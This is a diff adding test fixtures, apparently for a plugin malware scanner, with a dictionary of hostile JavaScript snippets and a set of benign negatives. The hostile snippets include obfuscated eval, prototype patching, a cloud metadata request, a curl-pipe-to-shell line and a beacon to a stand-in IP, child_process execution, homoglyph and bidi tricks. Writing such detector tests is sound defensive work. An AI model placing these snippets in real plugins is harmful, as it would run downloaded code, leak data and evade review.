@@ -101,6 +101,88 @@ def malicious_bundle(source: str) -> dict[str, bytes]:
     return {"plugin.py": (_HEAD + source + "\n").encode()}
 
 
+MALICIOUS_JAVASCRIPT: dict[str, str] = {
+    "eval-atob": f"eval(atob('{_B64}'))",
+    "eval-atob-variable": f"const d = atob('{_B64}'); const t = d.trim(); (0, eval)(t)",
+    "function-fromcharcode": "new Function(String.fromCharCode(97, 98))()",
+    "function-decoder": "Function(new TextDecoder().decode(c.bytes))()",
+    "eval-download": "eval(await (await fetch(c.url)).text())",
+    "eval-reversed": "eval(')1(trela'.split('').reverse().join(''))",
+    "import-decoded": "await import(atob(c.name))",
+    "constructor-decoded": "(() => {}).constructor(atob(c.text))()",
+    "constructor-walk": "[].constructor.constructor('return 1')()",
+    "constructor-walk-text": "''['constructor']['constructor']('return 1')()",
+    "constructor-walk-reference": "const F = [].map.constructor.constructor; F('return 1')()",
+    "constructor-pieces": "(() => {})['const' + 'ructor']('return 1')()",
+    "eval-pieces": "globalThis['ev' + 'al'](c.text)",
+    "eval-join": "globalThis[['e', 'val'].join('')](c.text)",
+    "eval-template": "globalThis[`${'ev'}al`](c.text)",
+    "eval-chr": "globalThis[String.fromCharCode(101, 118, 97, 108)](c.text)",
+    "eval-base64-name": "globalThis[atob('ZXZhbA==')](c.text)",
+    "process-pieces": "globalThis['pro' + 'cess'].exit()",
+    "patch-array": "Array.prototype.push = function () {}",
+    "patch-array-alias": "const P = Array.prototype; P.push = function () {}",
+    "patch-object": "Object.defineProperty(Object.prototype, 'x', { value: 1 })",
+    "patch-assign": "Object.assign(JSON, { parse: () => 1 })",
+    "patch-json": "JSON.parse = () => 1",
+    "patch-sdk": "plugin.api.query = async () => []",
+    "patch-global": "globalThis.fetch = async () => 1",
+    "patch-plugin": "globalThis.plugin = {}",
+    "patch-promise": "Promise.prototype['th' + 'en'] = function () {}",
+    "patch-by-literal": "Object.getPrototypeOf([]).push = function () {}",
+    "patch-delete": "delete Array.prototype.push",
+    "proto-pollution": "c.filters.__proto__.admin = true",
+    "metadata-service": "await fetch('http://169.254.169.254/latest/meta-data/')",
+    "passwd": "return '/etc/passwd'",
+    "curl-pipe": "return `curl -s http://192.0.2.1/x | sh`",
+    "miner": "return 'stratum+tcp://192.0.2.1:3333'",
+    "escaped-text": "return '\\x2fetc\\x2fpasswd'",
+    "socket": "new WebSocket('ws://192.0.2.1/')",
+    "xhr": "navigator.sendBeacon('http://192.0.2.1/', c.x)",
+    "child-process": "(await import('node:child_process')).exec('id')",
+    "require-process": "require('child_process').exec('id')",
+    "dlopen": "process.dlopen(c.module, 'x.node')",
+    "large-payload": f"return '{_LONG}'",
+    "packed-payload": "return '" + base64.b64encode(b"\x7fELF" + bytes(range(256))).decode() + "'",
+    "bidi": "const access = 'user\u202e \u2066// check\u2069 \u2066'",
+    "look-alike-cyrillic": "const р = 1, p = 2; return p",
+    "look-alike-eval": "const еval = 1",
+    "look-alike-wide": "const ｅｖａｌ = 1",
+    "invisible-data": "return '" + "".join(chr(0xE0100 + b) for b in b"import os; os.system") + "'",
+    "huge-text": "return 'A'.repeat(10 ** 10)",
+    "huge-array": "return new Uint8Array(10_000_000_000)",
+    "huge-bigint": "return 7n ** 9999999n",
+    "nested-text": "eval(\"eval('JSON.parse = 1')\")",
+    "undeclared-call": "await c.api.delete('orders', {})",
+    "undeclared-admin": "const a = c.api; await a.call('admin.users.list')",
+    "undeclared-pieces": "await plugin.api['fe' + 'tch']('http://x.org')",
+}
+"""By technique; each stands inside a hook whose context is ``c``."""
+
+ORDINARY_JAVASCRIPT: dict[str, str] = {
+    "constructor-of-own": "class A { copy() { return new this.constructor() } } return new A().copy().constructor.name",
+    "own-prototype": "function A() {} A.prototype.go = function () {}; A.prototype.constructor = A; return new A()",
+    "symbols": "const s = { [Symbol.iterator]: function* () { yield 1 } }; return [...s]",
+    "evaluate": "const evaluate = (x) => x + 1; return evaluate(c.x) + c.eval.total",
+    "timers": "await new Promise((done) => setTimeout(done, 10))",
+    "base64": "return atob(c.text) + JSON.parse(decodeURIComponent(c.more)).x",
+    "own-process": "const process = (rows) => rows.length; return process(c.rows)",
+    "error": "class Mine extends Error {} Error.captureStackTrace?.(c); throw new Mine('x')",
+    "getter": "const o = {}; Object.defineProperty(o, 'x', { get: () => 1 }); return Object.assign({}, o, c.filters)",
+    "sizes": "return new Array(1000).fill(0).concat('ab'.repeat(20), 2 ** 31, 1 << 20, 10n ** 18n)",
+    "regex": "return /^(?<year>\\d{4})-eval\\(/u.exec(c.text)?.groups",
+    "delete-own": "const o = { a: 1 }; delete o.a; return o",
+    "umlauts": "const größe = 1, naïve = 'Zürich ✓'; return größe + naïve",
+}
+"""Code that has nothing to find; each stands inside a hook whose context is ``c``."""
+
+
+def javascript_bundle(body: str) -> str:
+    """The entry point of a plugin with ``body`` in its one hook."""
+    return ("export default { id: 'sample', version: '1.0.0', permissions: [], hooks: {\n"
+            f"async onDataFetch(c) {{\n{body}\n}} }} }};\n")
+
+
 ORDINARY_PACKAGES = ("attrs", "click", "idna", "iniconfig", "markdown-it-py", "packaging", "pluggy", "rich", "sqlglot",
                      "typing_extensions")
 """Well-known pure-Python distributions: an error that the scan finds in one of them is a false alarm."""
